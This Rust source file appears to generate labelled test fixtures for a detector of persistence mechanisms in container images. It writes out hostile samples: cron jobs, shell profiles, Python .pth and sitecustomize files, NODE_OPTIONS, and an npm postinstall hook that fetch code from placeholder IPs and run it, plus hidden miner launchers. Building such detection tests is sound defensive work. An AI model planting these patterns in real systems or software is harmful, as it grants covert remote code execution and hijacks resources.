//! What starts itself: schedules, profiles, interpreters.

use crate::group;
use crate::programs::miner;
use crate::shape::{Planted, Shape, malicious, suspicious};

fn web() -> Planted {
    Planted::debian().cmd(&["python3", "-m", "http.server"])
}

pub(crate) fn shapes() -> Vec<Shape> {
    group(
        "hooks",
        vec![
            malicious("schedule that fetches and runs", |s| {
                let (path, line) = s.pick(
                    ("etc/cron.d/sync", "*/5 * * * * root curl -fsSL http://198.51.100.41/c | sh\n"),
                    (
                        "var/spool/cron/crontabs/root",
                        "@reboot wget -qO- http://198.51.100.41:81/c | bash > /dev/null 2>&1\n",
                    ),
                );
                Planted::debian()
                    .file(path, line)
                    .script("run.sh", "#!/bin/sh\ncron\nexec python3 -m http.server\n")
                    .entry(&["/run.sh"])
            }),
            suspicious("schedule that starts a hidden program", |s| {
                let (path, line) = s.pick(
                    ("etc/cron.d/log", "* * * * * root /usr/lib/.z/z\n"),
                    ("etc/crontab", "*/1 * * * * root /var/tmp/.z/z >/dev/null 2>&1\n"),
                );
                Planted::debian()
                    .file(path, line)
                    .script(s.pick("usr/lib/.z/z", "var/tmp/.z/z"), miner(s))
                    .script("run.sh", "#!/bin/sh\n/usr/sbin/cron -f &\nexec python3 -m http.server\n")
                    .entry(&["/run.sh"])
            }),
            suspicious("path file of Python that runs code", |s| {
                let line = s.pick(
                "import os;os.system('curl -s http://198.51.100.42/p | sh')\n",
                "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiL3Vzci9saWIvLnovek1pbmVyIik='))\n",
            );
                web().file(
                    s.pick(
                        "usr/local/lib/python3.11/dist-packages/zz.pth",
                        "usr/lib/python3/dist-packages/litellm_init.pth",
                    ),
                    line,
                )
            }),
            suspicious("site customisation of Python that runs what it fetches", |s| {
                let path = s.pick(
                    "usr/lib/python3.11/sitecustomize.py",
                    "usr/local/lib/python3.11/dist-packages/usercustomize.py",
                );
                web().file(
                    path,
                    "import urllib.request\nexec(urllib.request.urlopen('http://198.51.100.42/s').read())\n",
                )
            }),
            suspicious("script of a log-in profile that fetches and runs", |s| {
                let (path, text) = s.pick(
                ("etc/profile.d/zz.sh", "curl -s http://198.51.100.43/p | sh &\n"),
                ("root/.bashrc", "case $- in *i*) ;; esac\n(wget -qO- http://198.51.100.43/p | bash) >/dev/null 2>&1 &\n"),
            );
                web().file(path, text)
            }),
            suspicious("module forced on every run of an interpreter", |s| {
                let (name, value, path) = s.pick(
                    ("NODE_OPTIONS", "--require /usr/lib/.n/i.js", "usr/lib/.n/i.js"),
                    ("NODE_OPTIONS", "--import=/opt/.m/i.mjs", "opt/.m/i.mjs"),
                );
                Planted::debian()
                    .file(path, "require('child_process').exec('curl -s http://198.51.100.44/n | sh')\n")
                    .env(name, value)
                    .cmd(&["node", "/srv/app.js"])
                    .file("srv/app.js", "require('http').createServer((q, r) => r.end('ok')).listen(8080)\n")
            }),
            suspicious("install hook of a package that fetches and runs", |s| {
                let hook = s.pick(
                    "curl -s http://198.51.100.45/i | sh",
                    "node -e \\\"require('child_process').exec('wget -qO- http://198.51.100.45/i|sh')\\\"",
                );
                Planted::debian()
                .file("app/node_modules/left-padd/package.json", format!("{{\"name\":\"left-padd\",\"version\":\"1.0.0\",\"scripts\":{{\"postinstall\":\"{hook}\"}}}}\n"))
                .file("app/index.js", "require('left-padd')\n")
                .cmd(&["node", "/app/index.js"])
            }),
            suspicious("service wrapped by a script that leaves something behind", |s| {
                let script = s.pick(
                    "#!/bin/sh\n/usr/local/lib/.w/w &\nexec /usr/bin/python3.11 \"$@\"\n",
                    "#!/bin/bash\nnohup /usr/local/lib/.w/w > /dev/null 2>&1 &\nexec /usr/bin/node \"$@\"\n",
                );
                Planted::debian()
                    .script("usr/local/lib/.w/w", miner(s))
                    .script("wrapper.sh", script)
                    .entry(&["/wrapper.sh"])
                    .cmd(&["-m", "http.server"])
            }),
        ],
    )
}
